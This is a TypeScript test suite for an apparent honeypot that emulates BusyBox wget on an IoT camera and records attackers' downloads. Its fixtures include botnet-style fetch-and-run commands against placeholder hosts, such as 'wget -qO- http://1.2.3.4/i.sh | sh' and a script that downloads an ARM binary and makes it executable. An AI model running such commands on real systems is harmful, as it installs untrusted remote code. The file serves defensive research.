// wget with hachi's fetcher behind it: the payload lands in the emulated filesystem and the output
// matches Debian's BusyBox 1.35 wget byte for byte (captured from `busybox wget` against a local
// server, stderr not a terminal); hachi's own refusals never show.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHarness } from '../../testing/command-harness.ts';
import { FakeDownloads } from '../../testing/fake-downloads.ts';
import { progressLine, sizeField } from './wget.ts';

const script = 'x'.repeat(1234);

test('a fetched payload is saved where wget would save it, with BusyBox output', async () => {
  const downloads = new FakeDownloads({ 'http://127.0.0.1:8765/bins.sh': script });
  const h = createHarness({ cwd: '/tmp', downloads });
  const r = await h.run(['wget', 'http://127.0.0.1:8765/bins.sh']);
  assert.equal(
    r.stderr,
    "Connecting to 127.0.0.1:8765 (127.0.0.1:8765)\nsaving to '/tmp/bins.sh'\nbins.sh              100% |********************************|  1234  0:00:00 ETA\n'/tmp/bins.sh' saved\n",
  );
  assert.equal(r.status, 0);
  const saved = h.fs.stat('/tmp/bins.sh');
  assert.ok(saved?.kind === 'file');
  assert.equal(new TextDecoder().decode(saved.data), script);
  assert.deepEqual(downloads.requests, [{ tool: 'wget', url: 'http://127.0.0.1:8765/bins.sh' }]);
});

test('wget -O- writes the payload to stdout (for `| sh`); -q is silent; a URL without scheme is http', async () => {
  const downloads = new FakeDownloads({ 'http://1.2.3.4/i.sh': 'echo hi\n' });
  const h = createHarness({ cwd: '/tmp', downloads });
  const piped = await h.run(['wget', '-O-', 'http://1.2.3.4/i.sh']);
  assert.equal(piped.stdout, 'echo hi\n');
  assert.equal(piped.stderr, 'Connecting to 1.2.3.4 (1.2.3.4:80)\nwriting to stdout\n-                    100% |********************************|     8  0:00:00 ETA\nwritten to stdout\n');
  const quiet = await h.run(['wget', '-q', '1.2.3.4/i.sh', '-O', 'q.sh']);
  assert.equal(quiet.stderr, '');
  assert.equal(quiet.status, 0);
  assert.equal(downloads.requests.at(-1)?.url, 'http://1.2.3.4/i.sh');
});

test("the server's own error is the device's error; hachi's refusals look like a download", async () => {
  const downloads = new FakeDownloads({
    'http://1.2.3.4/missing': { outcome: 'server-error', body: null, statusLine: 'HTTP/1.0 404 File not found', address: '1.2.3.4' },
    'http://10.0.0.9/x': { outcome: 'blocked', body: null, statusLine: null, address: null },
    'http://1.2.3.4/slow': { outcome: 'pending', body: null, statusLine: null, address: null },
  });
  const h = createHarness({ cwd: '/tmp', downloads });
  const missing = await h.run(['wget', 'http://1.2.3.4/missing']);
  assert.equal(missing.stderr, 'Connecting to 1.2.3.4 (1.2.3.4:80)\nwget: server returned error: HTTP/1.0 404 File not found\n');
  assert.equal(missing.status, 1);
  assert.equal(h.fs.stat('/tmp/missing'), null);
  for (const path of ['x', 'slow']) {
    const host = path === 'x' ? '10.0.0.9' : '1.2.3.4';
    const r = await h.run(['wget', `http://${host}/${path}`]);
    assert.equal(r.status, 0, path);
    assert.match(r.stderr, new RegExp(`'/tmp/${path}' saved\\n$`));
    assert.equal(h.fs.stat(`/tmp/${path}`)?.kind, 'file');
  }
});

test('several URLs: each recorded, fetched in order, the first failure stops the rest', async () => {
  const downloads = new FakeDownloads({ 'http://1.2.3.4/a': 'A' });
  const h = createHarness({ cwd: '/tmp', downloads });
  const r = await h.run(['wget', 'http://1.2.3.4/a', 'http://5.6.7.8/b', 'http://1.2.3.4/c']);
  assert.equal(r.status, 1);
  assert.equal(h.emitter.ofType('download.attempt').length, 3);
  assert.deepEqual(downloads.requests.map((q) => q.url), ['http://1.2.3.4/a', 'http://5.6.7.8/b']);
});

test('the progress size field is BusyBox smart_ulltoa5', () => {
  assert.deepEqual([0, 20, 1234, 99_999, 100_000, 2_999_999, 3_000_000, 52_428_800, 5 * 1024 ** 3].map(sizeField), ['    0', '   20', ' 1234', '99999', '97.6k', '2929k', '2929k', '50.0M', '5120M'].map((s) => s.padStart(5)));
  assert.equal(progressLine('a-very-long-file-name-here.bin', 20), 'a-very-long-file-nam 100% |********************************|    20  0:00:00 ETA');
});

test('`wget -O- URL | sh` and `curl URL | sh` run the fetched script, whose own downloads go out too', async () => {
  const { createTestShell } = await import('../../testing/shell-harness.ts');
  const { commands } = await import('./index.ts');
  const downloads = new FakeDownloads({
    'http://1.2.3.4/i.sh': 'cd /tmp; wget http://1.2.3.4/x.arm7 -O x; chmod 777 x\n',
    'http://1.2.3.4/c.sh': 'wget http://1.2.3.4/y.mips\n',
    'http://1.2.3.4/x.arm7': 'ARM',
    'http://1.2.3.4/y.mips': 'MIPS',
  });
  const { loadPersonaPack } = await import('../../personas/load-pack.ts');
  const camera = await loadPersonaPack(new URL('../../../personas/xm-ipc-hi3516d', import.meta.url).pathname);
  const shell = createTestShell({ commands, downloads, persona: camera });
  await shell.run('wget -qO- http://1.2.3.4/i.sh | sh');
  await shell.run('busybox wget -O - http://1.2.3.4/c.sh 2>/dev/null | sh');
  assert.deepEqual(
    downloads.requests.map((r) => r.url),
    ['http://1.2.3.4/i.sh', 'http://1.2.3.4/x.arm7', 'http://1.2.3.4/c.sh', 'http://1.2.3.4/y.mips'],
  );
  assert.match(await shell.run('ls -l /tmp/x'), /-rwxrwxrwx .* 3 .* \/tmp\/x/);
});
